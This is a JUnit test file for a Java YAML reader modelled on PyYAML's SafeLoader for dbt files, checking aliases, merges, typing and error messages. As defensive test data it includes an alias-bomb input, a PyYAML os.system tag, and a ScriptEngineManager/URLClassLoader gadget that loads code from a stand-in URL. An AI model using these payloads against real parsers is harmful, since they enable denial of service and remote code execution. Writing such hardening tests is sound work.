package org.sqlwarehouse.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.sqlwarehouse.WarehouseException;

/** YAML as PyYAML's SafeLoader reads it for dbt, without its dangers. */
class YamlReaderTest {

    private static Object java(String yaml) throws WarehouseException {
        return YamlReader.parse(yaml, "models/schema.yml").root().toJava();
    }

    @Test
    void aliasesGiveTheAnchoredValueNotItsName() throws Exception {
        Object doc = java("""
                defaults: &defaults {tags: [nightly, finance]}
                idtests: &idtests [unique, not_null]
                a: *defaults
                b:
                  <<: *defaults
                  owner: me
                c: *idtests
                """);

        assertThat(doc).isEqualTo(Map.of(
                "defaults", Map.of("tags", List.of("nightly", "finance")),
                "idtests", List.of("unique", "not_null"),
                "a", Map.of("tags", List.of("nightly", "finance")),
                "b", Map.of("tags", List.of("nightly", "finance"), "owner", "me"),
                "c", List.of("unique", "not_null")));
    }

    @Test
    void anAliasedValueIsACopy() throws Exception {
        @SuppressWarnings("unchecked")
        Map<String, Map<String, Object>> doc = (Map<String, Map<String, Object>>) java("a: &x {k: 1}\nb: *x\n");
        doc.get("a").put("k", 2);

        assertThat(doc.get("b")).containsEntry("k", 1);
    }

    @Test
    @Timeout(10)
    void anAliasBombFailsFastNamingTheFile() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(p);
            }
            yaml.append("]\n");
        }
        long t0 = System.nanoTime();

        assertThatThrownBy(() -> YamlReader.parse(yaml.toString(), "/home/me/.dbt/profiles.yml"))
                .isInstanceOf(WarehouseException.class)
                .hasMessageContaining("/home/me/.dbt/profiles.yml")
                .hasMessageContaining("alias bomb");
        assertThat(Duration.ofNanos(System.nanoTime() - t0)).isLessThan(Duration.ofSeconds(5));
    }

    @Test
    void anAliasInsideItsOwnAnchorFails() {
        assertThatThrownBy(() -> YamlReader.parse("a: &a [1, *a]\n", "x.yml"))
                .isInstanceOf(WarehouseException.class)
                .hasMessageContaining("x.yml line 1")
                .hasMessageContaining("&a");
    }

    @Test
    void aRepeatedKeyKeepsTheLastValueAndWarnsWithBothLines() throws Exception {
        YamlDocument doc = YamlReader.parse("""
                models:
                  - name: a
                sources: []
                models:
                  - name: b
                """, "models/schema.yml");

        assertThat(doc.root().toJava()).isEqualTo(Map.of("models", List.of(Map.of("name", "b")), "sources", List.of()));
        assertThat(doc.warnings()).singleElement().asString()
                .contains("models/schema.yml line 4")
                .contains("'models'")
                .contains("first on line 1");
    }

    @Test
    void aKeyGivenAgainOverAMergeIsNoWarning() throws Exception {
        YamlDocument doc = YamlReader.parse("base: &b {x: 1}\nthis:\n  <<: *b\n  x: 2\n", "x.yml");

        assertThat(doc.warnings()).isEmpty();
        assertThat(doc.root().toJava()).isEqualTo(Map.of("base", Map.of("x", 1), "this", Map.of("x", 2)));
    }

    @Test
    void unknownTagsAreIgnoredAndNothingIsInstantiated() throws Exception {
        Object doc = java("""
                a: !!python/object/apply:os.system ["touch /tmp/wh_hostile_pwned"]
                b: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                c: !custom {k: v}
                d: !!str 12
                e: !!binary aGVsbG8=
                """);

        assertThat(doc).isEqualTo(Map.of(
                "a", List.of("touch /tmp/wh_hostile_pwned"),
                "b", List.of(List.of(List.of(List.of("http://x/")))),
                "c", Map.of("k", "v"),
                "d", "12",
                "e", "aGVsbG8="));
        assertThat(java.nio.file.Path.of("/tmp/wh_hostile_pwned")).doesNotExist();
    }

    @Test
    void scalarsAreTypedAsPyYamlTypesThem() throws Exception {
        Object doc = java("""
                i: 42
                big: 12345678901
                f: 1.5
                t: true
                yes_: yes
                n: ~
                s: "42"
                d: 2024-01-01
                """);

        Map<String, Object> expected = new java.util.HashMap<>(Map.of("i", 42, "big", 12345678901L, "f", 1.5,
                "t", true, "yes_", true, "s", "42", "d", "2024-01-01"));
        expected.put("n", null);
        assertThat(doc).isEqualTo(expected);
    }

    @Test
    void malformedYamlNamesTheLineWithoutQuotingIt() {
        assertThatThrownBy(() -> YamlReader.parse("a: 1\npassword: \"s3cret\n", "profiles.yml"))
                .isInstanceOf(WarehouseException.class)
                .hasMessageContaining("profiles.yml line")
                .hasMessageNotContaining("s3cret");
    }
}
